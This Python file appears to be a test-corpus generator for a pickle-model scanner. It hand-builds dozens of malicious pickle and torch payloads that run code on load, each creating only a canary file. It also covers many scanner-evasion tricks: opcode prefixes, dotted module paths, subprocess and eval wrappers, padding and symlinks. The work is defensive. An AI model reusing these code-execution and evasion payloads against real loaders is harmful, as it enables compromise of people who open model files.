# SPDX-License-Identifier: Apache-2.0
"""Pickles that run code when their loader opens them: every payload only creates a file, whose presence proves that it ran.

python hostile_pickles.py FOLDER [NAME…] makes them, loads each in a separate process with its real loader, and prints those
that did not run. A sample is (name, loader, path); `cairn-cli scan` gets the path.
"""

from __future__ import annotations

import contextlib
import functools
import os
import pickle
import struct
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import numpy as np
import torch

SLEEP = 20.0  # time limit of a loader in seconds


@dataclass
class Sample:
    name: str
    load: Callable[[Path], object]
    path: Path  # what is loaded
    scan: Path  # what is scanned: the file, or the folder around it
    canary: Path
    known: bool = True  # the scanner recognises the payload: would-run-code is expected


class Writer:
    """Writes opcodes by hand."""

    def __init__(self, *parts: bytes) -> None:
        self.data = b"".join(parts)

    @staticmethod
    def text(value: str) -> bytes:
        raw = value.encode()
        return b"X" + struct.pack("<I", len(raw)) + raw

    @staticmethod
    def name(module: str, attribute: str) -> bytes:
        return f"c{module}\n{attribute}\n".encode()


T, G = Writer.text, Writer.name


def call(module: str, attribute: str, *arguments: bytes) -> bytes:
    return G(module, attribute) + b"(" + b"".join(arguments) + b"tR"


def touch(canary: Path) -> bytes:
    return call("os", "system", T(f"touch {canary}"))


class Collection:
    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.samples: list[Sample] = []

    def canary(self, name: str) -> Path:
        return self.folder / "canaries" / name

    def add(self, name: str, load, make, ending: str = ".pkl", scan=None, known: bool = True) -> None:
        """`make`: bytes, or a function of (path, canary) that writes or returns them."""
        path = self.folder / name / f"sample{ending}"
        path.parent.mkdir(parents=True, exist_ok=True)
        canary = self.canary(name)
        canary.parent.mkdir(exist_ok=True)
        with contextlib.suppress(ImportError, AttributeError):
            made = make(path, canary)
            if isinstance(made, Path):
                path = made
            elif made is not None:
                path.write_bytes(made)
            self.samples.append(Sample(name, load, path, path.parent if scan == "folder" else path, canary, known))


def load_pickle(path):
    with open(path, "rb") as stream:
        return pickle.load(stream)


def load_python_pickle(path):
    with open(path, "rb") as stream:
        return pickle._Unpickler(stream).load()


def load_several(path):
    with open(path, "rb") as stream:
        while True:
            try:
                pickle.load(stream)
            except EOFError:
                return


def load_after_padding(path):
    with open(path, "rb") as stream:
        pickle.load(stream)
        data = stream.read().lstrip(b"\0 \xff#")
        return pickle.loads(data)


def load_torch(path):
    return torch.load(path, weights_only=False)


def load_dill(path):
    import dill

    with open(path, "rb") as stream:
        return dill.load(stream)


def first_opcodes(c: Collection) -> None:
    """An object is made and dropped before the payload, so that neither PROTO nor a usual opcode comes first."""
    dropped = {
        "none": b"N0", "list": b"]0", "dict": b"}0", "tuple": b")0", "mark": b"(1", "mark_values": b"(NN1", "int": b"I1\n0",
        "bool": b"I01\n0", "long": b"L1L\n0", "float": b"F1.5\n0", "binfloat": b"G" + bytes(8) + b"0", "binint": b"J\1\2\3\4" + b"0",
        "binint1": b"K\x010", "binint2": b"M\1\1" + b"0", "string": b"S'x'\n0", "unicode": b"Vx y\n0", "binunicode": T("abc") + b"0",
        "binstring": b"T\2\0\0\0ab0", "short_string": b"U\2ab0", "true": b"\x880", "false": b"\x890", "long1": b"\x8a\1\1" + b"0",
        "long4": b"\x8b\1\0\0\0\1" + b"0", "short_unicode": b"\x8c\1a0", "unicode8": b"\x8d\1" + bytes(7) + b"a0", "set": b"\x8f0",
        "bytes": b"C\1a0", "binbytes": b"B\1\0\0\0a0", "bytes8": b"\x8e\1" + bytes(7) + b"a0", "bytearray8": b"\x96\1" + bytes(7) + b"a0",
        "memoize": b"N\x940", "put": b"Np7\n0", "binput": b"Nq\x070", "dup": b"N200", "frozenset": b"(N\x910", "global": b"cbuiltins\nlist\n0",
        "old_list": b"(lp0\n0", "old_dict": b"(dp0\n0", "pop_mark_nested": b"((N11",
    }
    endings = [".pkl", ".bin", ".pt", "", ".txt", ".safetensors", ".json", ".ckpt", ".dat", ".npy", ".zip", ".h5", ".gguf"]
    for i, (name, prefix) in enumerate(dropped.items()):
        c.add(f"first_{name}", load_pickle, lambda p, k, b=prefix: b + touch(k) + b".", endings[i % len(endings)])
    c.add("first_proto_0", load_pickle, lambda p, k: b"\x80\0" + touch(k) + b".", ".bin")
    c.add("first_frame", load_pickle, lambda p, k: b"\x95" + struct.pack("<Q", len(touch(k)) + 1) + touch(k) + b".", ".bin")
    c.add("text_only", load_pickle, lambda p, k: f"cos\nsystem\n(S'touch {k}'\ntR.".encode(), ".txt")
    c.add("inst", load_pickle, lambda p, k: f"(S'touch {k}'\nios\nsystem\n.".encode(), ".bin")
    c.add("obj", load_pickle, lambda p, k: f"(cos\nsystem\nS'touch {k}'\no.".encode(), ".bin")
    c.add("no_stop", load_pickle, lambda p, k: touch(k), ".bin")
    c.add("break_after", load_pickle, lambda p, k: touch(k) + b"\xff\xff", "")
    c.add("cut_in_text", load_pickle, lambda p, k: touch(k) + b"X\xff\xff\0\0abc", ".bin")
    c.add("python_no_line_end", load_python_pickle, lambda p, k: b"N0" + touch(k) + b"cos\nsystem", ".bin")

    def hash_name(p, k):
        blobs, snapshot = p.parent / "models--a--b/blobs", p.parent / "models--a--b/snapshots/0f" / "x"
        blobs.mkdir(parents=True)
        snapshot.mkdir(parents=True)
        blob = blobs / ("ab12" * 16)
        blob.write_bytes(b"N0" + touch(k) + b".")
        link = snapshot / "pytorch_model.bin"
        link.symlink_to(os.path.relpath(blob, snapshot))
        return link

    c.add("hub_cache", load_pickle, hash_name, scan="folder")
    c.add("hub_blob", load_pickle, lambda p, k: hash_name(p, k).resolve(), scan=None)

    def deep(p, k):
        folder = p.parent.joinpath(*["d"] * 40)
        folder.mkdir(parents=True)
        (folder / "x").write_bytes(b"]0" + touch(k) + b".")
        return folder / "x"

    c.add("deep_folder", load_pickle, deep)
    c.samples[-1].scan = c.folder / "deep_folder"

    def out(p, k):
        outside = c.folder / "outside.bin"
        outside.write_bytes(touch(k) + b".")
        inside = p.parent / "inside"
        inside.mkdir()
        (inside / "model.bin").symlink_to(outside)
        return inside / "model.bin"

    c.add("link_out", load_pickle, out, known=False)
    c.samples[-1].scan = c.folder / "link_out" / "inside"


def lookups(c: Collection) -> None:
    """Ways to reach a function and to call it."""
    def stack_global(k, module=T("os"), name=T("system")):
        return b"\x80\4" + module + name + b"\x93" + T(f"touch {k}") + b"\x85R."

    c.add("stack_global", load_pickle, lambda p, k: stack_global(k))
    c.add("stack_global_short", load_pickle, lambda p, k: stack_global(k, b"\x8c\2os", b"\x8c\6system"))
    c.add("stack_global_unicode8", load_pickle, lambda p, k: stack_global(k, b"\x8d\2" + bytes(7) + b"os"))
    c.add("stack_global_escapes", load_pickle, lambda p, k: stack_global(k, b"V\\u006fs\n"))
    c.add("stack_global_memo", load_pickle, lambda p, k: stack_global(k, T("system") + b"\x940" + T("os"), b"h\0"))
    c.add("memo_overwritten", load_pickle, lambda p, k: stack_global(k, T("x") + b"q\0" + b"0" + T("os") + b"q\0" + b"0h\0"))
    c.add("memo_huge_index", load_pickle, lambda p, k: stack_global(k, T("os") + b"r\xff\xff\0\0" + b"0j\xff\xff\0\0"))
    c.add("stack_global_marks", load_pickle, lambda p, k: stack_global(k, T("os") + b"(NN1"))
    c.add("stack_global_dup", load_pickle, lambda p, k: stack_global(k, T("posix") + b"20"))
    c.add("old_string_names", load_pickle, lambda p, k: stack_global(k, b"U\2os", b"U\6system"))
    c.add("dotted", load_pickle, lambda p, k: stack_global(k, T("torch"), T("serialization.os.system")))
    c.add("dotted_numpy", load_pickle, lambda p, k: stack_global(k, T("numpy"), T("lib._datasource.os.system")))
    c.add("dotted_globals", load_pickle, lambda p, k: b"\x80\4" + call("operator", "itemgetter", T("system")) + b"0" + stack_global(k)[2:])
    c.add("dropped_result", load_pickle, lambda p, k: touch(k) + b"0}.")
    c.add("in_dict_value", load_pickle, lambda p, k: b"}" + T("a") + touch(k) + b"s.")
    c.add("in_dict_key", load_pickle, lambda p, k: b"}" + touch(k) + T("a") + b"s.")
    c.add("in_set", load_pickle, lambda p, k: b"\x8f(" + touch(k) + b"\x90.")
    c.add("in_state", load_pickle, lambda p, k: call("collections", "OrderedDict") + b"}" + T("a") + touch(k) + b"sb.")
    c.add("setstate", load_pickle, lambda p, k: call("argparse", "Namespace") + b"}" + T("__setstate__") + G("os", "system") + b"sb" + T(f"touch {k}") + b"b.")
    c.add("append", load_pickle, lambda p, k: call("argparse", "Namespace") + b"}" + T("append") + G("os", "system") + b"sb" + T(f"touch {k}") + b"a.")
    c.add("newobj", load_pickle, lambda p, k: b"\x80\2" + G("sympy", "sin") + b"(" + T(f"__import__('os').system('touch {k}')") + b"t\x81.")
    c.add("newobj_ex", load_pickle, lambda p, k: b"\x80\4" + G("sympy", "cos") + b"(" + T(f"__import__('os').system('touch {k}')") + b"t}\x92.")
    c.add("getattr", load_pickle, lambda p, k: call("builtins", "getattr", G("os", "path")[:0] + call("builtins", "__import__", T("os")), T("system")) + T(f"touch {k}") + b"\x85R.")
    c.add("partial", load_pickle, lambda p, k: call("functools", "partial", G("os", "system"), T(f"touch {k}")) + b")R.")
    c.add("methodcaller", load_pickle, lambda p, k: call("operator", "methodcaller", T("system"), T(f"touch {k}")) + call("builtins", "__import__", T("os")) + b"\x85R.")
    c.add("attrgetter", load_pickle, lambda p, k: call("operator", "attrgetter", T("system")) + call("builtins", "__import__", T("os")) + b"\x85R" + T(f"touch {k}") + b"\x85R.")
    c.add("map_list", load_pickle, lambda p, k: call("builtins", "list", call("builtins", "map", G("os", "system"), b"(" + T(f"touch {k}") + b"l")) + b".")
    c.add("reduce", load_pickle, lambda p, k: call("functools", "reduce", G("os", "execl")[:0] + G("builtins", "getattr"), b"(" + call("builtins", "__import__", T("os")) + T("system") + b"l") + T(f"touch {k}") + b"\x85R.")
    c.add("generator_ctor", load_pickle, lambda p, k: call("numpy.random._pickle", "__generator_ctor", T(f"touch {k}"), G("os", "system")) + b".")
    c.add("rebuild_from_type", load_pickle, lambda p, k: call("torch._tensor", "_rebuild_from_type_v2", G("os", "system"), G("torch", "Tensor"), T(f"touch {k}") + b"\x85", b"}") + b".")
    c.add("reconstructor", load_pickle, lambda p, k: call("copyreg", "_reconstructor", G("subprocess", "Popen"), G("subprocess", "Popen"), b"(" + T("touch") + T(str(k)) + b"l") + b".")
    c.add("load_from_bytes", load_pickle, lambda p, k: call("torch.storage", "_load_from_bytes", b"B" + struct.pack("<I", len(legacy(touch(k)))) + legacy(touch(k))) + b".")
    c.add("load_computed_bytes", load_pickle, lambda p, k: call("torch.storage", "_load_from_bytes", call("builtins", "bytes", b"(" + b"".join(b"K" + bytes([x]) for x in legacy(touch(k))) + b"l")) + b".")
    c.add("load_latin1_bytes", load_pickle, lambda p, k: call("torch.storage", "_load_from_bytes", call("_codecs", "encode", T(legacy(touch(k)).decode("latin1")), T("latin1"))) + b".")
    c.add("loads_nested", load_pickle, lambda p, k: call("pickle", "loads", b"B" + struct.pack("<I", len(touch(k)) + 1) + touch(k) + b".") + b".")


def legacy(payload: bytes, where: int = 3) -> bytes:
    """The format of torch.save before 1.6: magic, version, system, object, storage keys, storages."""
    parts = [pickle.dumps(0x1950A86A20F9469CFC6C, 2), pickle.dumps(1001, 2),
             pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)]
    parts += [b"}.", b"]."]
    if where == 3:
        parts[3] = b"}" + Writer.text("a") + payload + b"s."
    else:
        parts[where] = payload + b"0" + parts[where]
    return b"".join(parts)


def wrappers(c: Collection) -> None:
    """Functions of common packages that run their argument or write to a path in it."""
    code = "open({!r}, 'w')"
    by_command = {
        ("posix", "system"): None, ("os", "popen"): None, ("subprocess", "getoutput"): None, ("subprocess", "getstatusoutput"): None,
        ("psutil._common", "os.system"): None, ("torch.utils.collect_env", "run"): None, ("asyncio.subprocess", "subprocess.getoutput"): None,
        ("torch.serialization", "os.system"): None, ("distutils.spawn", "os.system"): None,
    }
    for (module, name), _ in by_command.items():
        def make(p, k, m=module, n=name):
            __import__(m)
            return b"\x80\4" + T(m) + T(n) + b"\x93" + T(f"touch {k}") + b"\x85R."
        c.add(f"run_{module}_{name}".replace(".", "_"), load_pickle, make)
    by_list = [("subprocess", "Popen"), ("subprocess", "call"), ("subprocess", "check_output"), ("subprocess", "run"), ("subprocess", "check_call"),
               ("psutil", "Popen"), ("pty", "spawn"), ("uuid", "_get_command_stdout")]
    for module, name in by_list[:-1]:
        def make(p, k, m=module, n=name):
            __import__(m)
            return call(m, n, b"(" + T("touch") + T(str(k)) + b"l") + b"."
        c.add(f"argv_{module}_{name}", load_pickle, make)
    c.add("argv_spawnlp", load_pickle, lambda p, k: call("os", "spawnlp", b"K\0", T("touch"), T("touch"), T(str(k))) + b".")
    c.add("argv_uuid", load_pickle, lambda p, k: call("uuid", "_get_command_stdout", T("touch"), T(str(k))) + b".")
    c.add("pipepager", load_pickle, lambda p, k: call("pydoc", "pipepager", T("x"), T(f"touch {k}")) + b".")
    by_code = [("builtins", "eval"), ("builtins", "exec"), ("timeit", "timeit"), ("cProfile", "run"), ("profile", "run"), ("pdb", "run"), ("bdb", "Bdb.run"),
               ("sympy", "sympify"), ("sympy", "Matrix"), ("sympy", "Add"), ("sympy", "parse_expr"), ("sympy.core.sympify", "sympify"), ("numpy.testing._private.utils", "runstring"),
               ("torch.fx.graph_module", "_exec_with_source"), ("code", "InteractiveInterpreter.runsource"), ("doctest", "debug_script"), ("runpy", "_run_code"),
               ("trace", "Trace.run"), ("torch._dynamo.utils", "exec"), ("pandas", "eval"), ("mako.template", "Template"), ("numexpr", "NumExpr")]
    for module, name in by_code:
        def make(p, k, m=module, n=name):
            __import__(m)
            functools.reduce(getattr, n.split("."), sys.modules[m])
            text = T(code.format(str(k)))
            if (m, n) == ("bdb", "Bdb.run"):
                arguments = call("bdb", "Bdb") + text
            elif m == "code":
                arguments = call("code", "InteractiveInterpreter") + text
            elif m == "trace":
                arguments = call("trace", "Trace") + text
            elif m == "runpy":
                arguments = call("builtins", "compile", text, T("x"), T("eval")) + b"}"
            elif n == "runstring":
                arguments = text + b"}"
            elif m == "torch.fx.graph_module":
                arguments = text + b"}"
            elif m == "sympy" and n == "Matrix":
                arguments = b"(" + b"(" + text + b"l" + b"l"
            elif m == "mako.template":
                arguments = T("<%! " + code.format(str(k)) + " %>")
            elif n == "Add":
                arguments = call("sympy", "sympify", text)
            else:
                arguments = text
            if m in ("pdb", "doctest"):
                raise ImportError  # they wait for input from the terminal
            if (m, n) == ("pandas", "eval"):
                arguments = T("@x") if False else text
                raise ImportError
            return b"\x80\4" + T(m) + T(n) + b"\x93(" + arguments + b"tR."
        c.add(f"code_{module}_{name}".replace(".", "_"), load_pickle, make)
    writes = [("io", "open", True), ("_io", "open", True), ("_io", "FileIO", True), ("zipfile", "ZipFile", True), ("tarfile", "open", True),
              ("gzip", "open", True), ("sqlite3", "connect", False), ("logging", "FileHandler", False), ("pathlib", "Path.touch", None),
              ("os", "mkdir", False), ("posix", "mkdir", False), ("numpy", "memmap", "np"), ("h5py", "File", True), ("torch", "UntypedStorage.from_file", "torch"),
              ("tempfile", "mkdtemp", "temp"), ("shutil", "copyfile", "copy"), ("os", "symlink", "copy"), ("codecs", "open", True), ("shelve", "open", "shelve"),
              ("numpy", "save", "np.save"), ("numpy", "savez", "np.save"), ("torch", "save", "save"), ("joblib", "dump", "dump"), ("distutils.file_util", "write_file", "write")]
    for module, name, how in writes:
        def make(p, k, m=module, n=name, h=how):
            __import__(m)
            path = T(str(k))
            if h is True:
                arguments = path + T("w")
            elif h is None:
                arguments = call("pathlib", "PosixPath", path)
            elif h == "np":
                arguments = path + T("uint8") + T("w+") + b"K\0" + b"K\1\x85"
            elif h == "torch":
                arguments = path + b"\x88" + b"K\1"
            elif h == "temp":
                raise ImportError
            elif h == "copy":
                arguments = T("/etc/hostname") + path
            elif h == "shelve":
                raise ImportError
            elif h == "np.save":
                arguments = call("_io", "open", path, T("wb")) + b"K\1"
            elif h in ("save", "dump"):
                arguments = b"K\1" + path
            elif h == "write":
                arguments = path + b"(l"
            else:
                arguments = path
            return b"\x80\4" + T(m) + T(n) + b"\x93(" + arguments + b"tR."
        c.add(f"write_{module}_{name}".replace(".", "_"), load_pickle, make, known=module != "h5py")
    def nested(module):
        def make(p, k):
            __import__(module)
            inner = touch(k) + b"."
            return call(module, "loads", b"B" + struct.pack("<I", len(inner)) + inner) + b"."
        return make
    for module in ("cloudpickle", "dill", "_pickle", "pickle"):
        c.add(f"loads_{module}", load_pickle, nested(module))

    def cloud(p, k):
        import cloudpickle

        class Evil:
            def __reduce__(self):
                return (lambda path: open(path, "w") and 0, (str(k),))

        return cloudpickle.dumps(Evil())

    c.add("cloudpickle_function", load_pickle, cloud)

    def dilled(p, k):
        import dill

        function = dill.loads(dill.dumps(lambda path: open(path, "w") and 0))

        class Evil:
            def __reduce__(self):
                return (function, (str(k),))

        return dill.dumps(Evil(), recurse=True)

    c.add("dill_function", load_dill, dilled)


def streams(c: Collection) -> None:
    plain = pickle.dumps({"a": 1}, 2)
    c.add("second_stream", load_several, lambda p, k: plain + touch(k) + b".")
    c.add("stream_70", load_several, lambda p, k: plain * 70 + b"N0" + touch(k) + b".")
    c.add("stream_5000", load_several, lambda p, k: plain * 5000 + touch(k) + b".")
    for name, padding in {"zeros": bytes(1000), "zeros_long": bytes(3_000_000), "blanks": b" " * 70000, "ff": b"\xff" * 100, "hashes": b"#" * 5000}.items():
        c.add(f"padding_{name}", load_after_padding, lambda p, k, b=padding: plain + b + b"N0" + touch(k) + b".", ".bin")
    c.add("padding_stack_global", load_after_padding, lambda p, k: plain + bytes(99) + T("os") + T("system") + b"\x93" + T(f"touch {k}") + b"\x85R.", ".bin")
    c.add("large_then_payload", load_several, lambda p, k: pickle.dumps(np.zeros(1_000_000), 4) + touch(k) + b".")
    c.add("large_bytes_inside", load_pickle, lambda p, k: b"\x80\4]" + b"B" + struct.pack("<I", 3_000_000) + bytes(3_000_000) + b"a" + touch(k) + b"a.")
    for where in range(5):
        c.add(f"legacy_{where}", load_torch, lambda p, k, w=where: legacy(touch(k), w), ".pth")


def collect(folder: Path) -> Collection:
    collection = Collection(folder)
    from hostile_files import archives, compressed, numpy_files

    for group in (first_opcodes, lookups, wrappers, streams, numpy_files, compressed, archives):
        group(collection)
    return collection


def runs(sample: Sample) -> bool:
    """Loads it in a separate process."""
    sample.canary.unlink(missing_ok=True)
    child = os.fork()
    if child == 0:
        with contextlib.suppress(BaseException):
            quiet = os.open(os.devnull, os.O_RDWR)
            for stream in (0, 1, 2):
                os.dup2(quiet, stream)
            import signal

            signal.alarm(int(SLEEP))
            sample.load(sample.path)
        os._exit(0)
    os.waitpid(child, 0)
    import time

    for _ in range(20):  # a command may still be running
        if sample.canary.exists() or sample.canary.is_symlink():
            return True
        time.sleep(0.02)
    return False


if __name__ == "__main__":
    sys.modules["hostile_pickles"] = sys.modules["__main__"]
    made = collect(Path(sys.argv[1])).samples
    wanted = [s for s in made if len(sys.argv) < 3 or s.name in sys.argv[2:]]
    for each in wanted:
        if not runs(each):
            print("did not run:", each.name)
    print(len(wanted), "samples")
